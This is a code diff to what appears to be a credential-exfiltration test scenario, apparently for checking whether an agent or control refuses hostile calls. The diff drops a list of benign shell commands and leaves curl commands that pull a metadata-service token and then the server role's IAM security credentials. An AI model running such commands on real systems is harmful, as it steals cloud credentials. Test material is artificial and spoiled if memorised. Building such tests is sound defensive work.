@@ -49,18 +49,6 @@ SCENARIO = Scenario(
         "used, which calls were refused, and what was read."
     ),
     settings=CredentialExfiltrationSettings,
-    harmless_commands=(
-        "whoami",
-        "id",
-        "pwd",
-        "ls -l /home",
-        "ls /var/log",
-        "uname -r",
-        "uptime",
-        "df -h /",
-        "ps -ef | head -5",
-        "cat /etc/os-release",
-    ),
     commands=(
         f'TOKEN=$(curl -s -X PUT {_METADATA}/api/token -H "{_TOKEN}-ttl-seconds: 300")',
         f'curl -s -H "{_TOKEN}: $TOKEN" {_METADATA}/meta-data/iam/security-credentials/{{ServerRoleName}}',
